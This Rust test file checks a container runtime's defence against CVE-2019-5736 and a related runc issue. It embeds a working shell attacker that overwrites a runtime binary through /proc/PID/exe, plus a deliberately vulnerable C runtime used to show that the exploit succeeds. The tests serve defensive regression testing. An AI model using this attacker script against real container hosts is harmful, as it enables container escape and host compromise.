//! The runtime's own file, from within a container (rule 8, CVE-2019-5736).

use std::fs::{self, File, OpenOptions};
use std::io::ErrorKind;
use std::os::fd::{AsFd, AsRawFd};
use std::os::unix::fs::MetadataExt;
use std::path::{Path, PathBuf};
use std::process::Command;

use davit::sys::mount::{MountAttr, Reach, mount_setattr};
use davit_tests::{Bundle, Container, World, copy_program, unique, wait_until, write_program};
use nix::fcntl::{FcntlArg, SealFlag, fcntl};
use serde_json::json;

use crate::support::{enter, until_met};

/// Watches for processes that run something else than busybox, takes hold of their file, and writes to it as soon as
/// it is not busy any more. What happens is told in /out/log: `denied` when the file can not be reached, `caught` when
/// it can, `WRITTEN` when it could be written.
const ATTACKER: &str = r#"
attack() {
    echo caught >>/out/log
    i=0
    while [ $i -lt 150 ]; do
        # Opening the FIFO lets the victim go on to its end.
        [ $i -ne 50 ] || exec 8<>/pipe
        if (printf pwned >/proc/self/fd/9) 2>/dev/null; then echo WRITTEN >>/out/log; fi
        i=$((i + 1))
    done
    exec 8>&-
    echo tried >>/out/log
}
echo ready >>/out/log
while :; do
    for p in /proc/[0-9]*; do
        if [ ! -e $p/exe ]; then
            read -r pid name state rest <$p/stat || continue
            [ "$state" = Z ] || [ "$state" = X ] || echo denied >>/out/log
            continue
        fi
        if ! [ $p/exe -ef /bin/busybox ] && ! [ $p/exe -ef /pause ]; then
            { attack; } 9<$p/exe
        fi
    done
done 2>/dev/null
"#;

/// The attacker's container, and what it says.
struct Attacker<'w> {
    container: Container<'w>,
    log: PathBuf,
}

impl<'w> Attacker<'w> {
    /// Its image has an entry point that is `interpreter`, and a FIFO at /pipe.
    fn start(world: &'w World, interpreter: &str) -> Attacker<'w> {
        let out = world.path(&unique("out"));
        fs::create_dir(&out).unwrap();
        let mut bundle = world.bundle();
        entry(&bundle, interpreter);
        bundle.mount("/out", "bind", out.to_str().unwrap(), &["rbind", "rw"]).script(ATTACKER);
        let attacker = Attacker { container: world.container(&bundle).started(), log: out.join("log") };
        attacker.wait_for("ready", 1);
        attacker
    }

    fn count(&self, word: &str) -> usize {
        let text = fs::read_to_string(&self.log).unwrap_or_default();
        text.lines().filter(|line| *line == word).count()
    }

    #[track_caller]
    fn wait_for(&self, word: &str, times: usize) {
        wait_until(&format!("{word} of the attacker"), || self.count(word) >= times);
    }
}

/// Makes the image's entry point: a script whose interpreter is whatever executes it.
pub fn entry(bundle: &Bundle, interpreter: &str) {
    write_program(&bundle.rootfs("entry"), &format!("#!{interpreter}\n"));
    nix::unistd::mkfifo(&bundle.rootfs("pipe"), nix::sys::stat::Mode::S_IRWXU).unwrap();
}

/// The installed file: a copy, so that what might be overwritten is not what other tests use.
fn installed(world: &World) -> (PathBuf, Vec<u8>) {
    let path = world.path("installed-davit");
    copy_program(world.runtime(), &path);
    let bytes = fs::read(&path).unwrap();
    (path, bytes)
}

/// A runtime without the defence: it enters a container's namespaces and executes what it is told to.
const WEAK: &str = r#"
#define _GNU_SOURCE
#include <fcntl.h>
#include <sched.h>
#include <stdio.h>
#include <sys/prctl.h>
#include <sys/wait.h>
#include <unistd.h>
static int enter(const char *pid, const char *kind) {
    char path[64];
    snprintf(path, sizeof path, "/proc/%s/ns/%s", pid, kind);
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    return fd < 0 ? fd : setns(fd, 0);
}
int main(int argc, char **argv) {
    /* As the interpreter of the image's entry point. */
    if (argc < 3) { usleep(60000); return 0; }
    if (enter(argv[1], "pid") || enter(argv[1], "mnt")) return 1;
    /* The container's capabilities: its processes may not look into one that has more. */
    for (int cap = 0; cap < 64; cap++)
        if (cap != 5 && cap != 10 && cap != 29) prctl(PR_CAPBSET_DROP, cap);
    if (fork() == 0) { execv(argv[2], argv + 2); _exit(127); }
    wait(NULL);
    return 0;
}
"#;

/// Builds it. `weak PID PROGRAM…` enters the container of a process; as the interpreter of an [`entry`] it waits a
/// moment.
pub fn weak(world: &World) -> PathBuf {
    let (source, weak) = (world.path("weak.c"), world.path("weak"));
    fs::write(&source, WEAK).unwrap();
    let compiled = Command::new("cc").args(["-static", "-O1", "-o"]).arg(&weak).arg(&source).status();
    assert!(compiled.expect("cc").success());
    weak
}

/// The exploit overwrites the file of a program that enters the container without the defence.
fn assert_the_exploit_works(world: &World) {
    let weak = weak(world);
    let attacker = Attacker::start(world, "/proc/self/exe");
    until_met("the program is overwritten", || {
        let pid = attacker.container.pid().to_string();
        // Busy while it is being overwritten.
        let _ = Command::new(&weak).args([&pid, "/entry"]).status();
        fs::read(&weak).unwrap().starts_with(b"pwned")
    });
    attacker.container.finish();
}

/// exec of an entry point that is `#!/proc/self/exe`: davit itself runs in the container, as a program of its user.
#[test]
fn cve_2019_5736_exec_of_proc_self_exe() {
    let Some(world) = enter("cve_2019_5736_exec_of_proc_self_exe") else { return };
    assert_the_exploit_works(&world);
    let (davit, before) = installed(&world);
    let attacker = Attacker::start(&world, "/proc/self/exe --log=/pipe");
    // It is there for a moment only.
    until_met("the attacker catches davit", || {
        let exec = attacker.container.call("exec", &["--detach"], &["/entry"]).with(&davit).run();
        assert_eq!(exec.code, 0, "{}", exec.error());
        attacker.count("caught") >= 3
    });
    attacker.wait_for("tried", 3);
    assert_eq!(attacker.count("WRITTEN"), 0);
    attacker.container.finish();
    assert!(fs::read(&davit).unwrap() == before, "the runtime's file was changed");
}

/// create and run of such an image, in a pod whose containers see each other's processes.
#[test]
fn cve_2019_5736_create_and_run_in_a_shared_pid_namespace() {
    let Some(world) = enter("cve_2019_5736_create_and_run_in_a_shared_pid_namespace") else { return };
    let (davit, before) = installed(&world);
    let attacker = Attacker::start(&world, "/proc/self/exe");
    let mut bundle = world.bundle();
    entry(&bundle, "/proc/self/exe --log=/pipe");
    let shared = json!({"type": "pid", "path": format!("/proc/{}/ns/pid", attacker.container.pid())});
    bundle.without_namespace("pid").push("/linux/namespaces", shared).args(&["/entry"]);
    // While it is created its first process is the runtime still: out of reach.
    let c = world.container(&bundle);
    c.call("create", &[], &[]).with(&davit).dir(bundle.dir()).run().ok();
    attacker.wait_for("denied", 1);
    assert_eq!(attacker.count("caught"), 0, "a created container shows its runtime");
    c.call("start", &[], &[]).with(&davit).run();
    attacker.wait_for("caught", 1);
    let fifo = bundle.rootfs("pipe");
    let release = || drop(OpenOptions::new().read(true).write(true).open(&fifo).unwrap());
    wait_until("the end of the container", || {
        release();
        c.status() == "stopped"
    });
    // It may have caught that one twice.
    let caught = attacker.count("caught");
    attacker.wait_for("tried", caught);
    c.finish();
    let caught = attacker.count("caught");
    let c = world.container(&bundle);
    c.call("run", &["--detach"], &[]).with(&davit).dir(bundle.dir()).run();
    attacker.wait_for("caught", caught + 1);
    wait_until("the end of the container", || {
        release();
        c.status() == "stopped"
    });
    attacker.wait_for("tried", caught + 1);
    c.finish();
    assert_eq!(attacker.count("WRITTEN"), 0);
    attacker.container.finish();
    assert!(fs::read(&davit).unwrap() == before, "the runtime's file was changed");
}

/// What even root of the host can do with the file that a container's process executes: nothing.
#[track_caller]
fn assert_out_of_reach(what: &str, pid: i32, davit: &Path) -> File {
    let exe = format!("/proc/{pid}/exe");
    let held = File::open(&exe).unwrap();
    let meta = held.metadata().unwrap();
    assert_eq!(meta.len(), fs::metadata(davit).unwrap().len(), "{what}: it is davit");
    for path in [exe, format!("/proc/self/fd/{}", held.as_raw_fd())] {
        let opened = OpenOptions::new().write(true).open(&path);
        assert!(
            opened.is_err_and(|e| matches!(
                e.kind(),
                ErrorKind::ReadOnlyFilesystem | ErrorKind::ExecutableFileBusy
            )),
            "{what}: {path} can be opened"
        );
    }
    held
}

/// Tries every way to make what is held writable again, after its process is gone.
#[track_caller]
fn assert_stays_read_only(what: &str, held: &File) {
    let again = format!("/proc/self/fd/{}", held.as_raw_fd());
    let error = OpenOptions::new().write(true).open(&again).expect_err(what);
    assert_eq!(error.kind(), ErrorKind::ReadOnlyFilesystem, "{what}");
    let writable = MountAttr { clear: davit::plan::attr::RDONLY, ..MountAttr::default() };
    mount_setattr(held.as_fd(), &writable, Reach::One).expect_err(what);
    for flags in ["remount,bind,rw", "remount,rw"] {
        let status =
            Command::new("mount").args(["-o", flags, &again]).stderr(std::process::Stdio::null()).status();
        assert!(!status.unwrap().success(), "{what}: {flags}");
    }
    // A bind of it is a copy of a read-only mount, or refused.
    let error = OpenOptions::new().write(true).open(&again).expect_err(what);
    assert_eq!(error.kind(), ErrorKind::ReadOnlyFilesystem, "{what}");
}

#[test]
fn the_file_stays_read_only_for_root_of_the_host() {
    let Some(world) = enter("the_file_stays_read_only_for_root_of_the_host") else { return };
    let (davit, before) = installed(&world);
    // What is at stake: the file itself can be written.
    assert!(OpenOptions::new().write(true).open(&davit).is_ok());
    let mut bundle = world.bundle();
    bundle.args(&["sleep", "1000"]);
    let c = world.container(&bundle);
    c.call("create", &[], &[]).with(&davit).dir(bundle.dir()).run().ok();
    let held = assert_out_of_reach("created", c.pid(), &davit);
    c.call("start", &[], &[]).with(&davit).run().ok();
    assert_stays_read_only("created and started", &held);
    c.finish();
    // The process that davit leaves in a container as the program itself.
    let mut bundle = world.bundle();
    entry(&bundle, "/proc/self/exe --log=/pipe");
    bundle.args(&["/entry"]);
    let c = world.container(&bundle);
    c.call("run", &["--detach"], &[]).with(&davit).dir(bundle.dir()).run().ok();
    let held = assert_out_of_reach("run", c.pid(), &davit);
    c.finish();
    assert_stays_read_only("run", &held);
    assert!(fs::read(&davit).unwrap() == before);
}

/// runc #5272: a read-only mount shares its pages with the installed file. Where a kernel lets readers write to pages
/// (as CVE-2022-0847 did), only a copy helps: the annotation asks for it.
#[test]
fn runc_5272_a_copy_on_demand() {
    let Some(world) = enter("runc_5272_a_copy_on_demand") else { return };
    let (davit, _) = installed(&world);
    let own = fs::metadata(&davit).unwrap();
    let exe = |value: Option<&str>| {
        let mut bundle = world.bundle();
        bundle.args(&["sleep", "1000"]);
        if let Some(value) = value {
            bundle.set("/annotations", json!({"org.opencontainers.runc.clone-self-exe": value}));
        }
        let c = world.container(&bundle);
        let create = c.call("create", &[], &[]).with(&davit).dir(bundle.dir()).run();
        if create.code != 0 {
            return Err(create.error());
        }
        let file = File::open(format!("/proc/{}/exe", c.pid())).unwrap();
        let meta = file.metadata().unwrap();
        let shares = (meta.dev(), meta.ino()) == (own.dev(), own.ino());
        let seals = fcntl(&file, FcntlArg::F_GET_SEALS).map(SealFlag::from_bits_truncate);
        c.finish();
        Ok((shares, seals.is_ok_and(|seals| seals.contains(SealFlag::F_SEAL_WRITE))))
    };
    assert_eq!(exe(None), Ok((true, false)), "the installed file's own pages");
    assert_eq!(exe(Some("ro-shared-page")), Ok((true, false)));
    assert_eq!(exe(Some("independent-data-copy")), Ok((false, true)), "a sealed copy");
    assert!(exe(Some("bogus")).unwrap_err().contains("org.opencontainers.runc.clone-self-exe"));
}
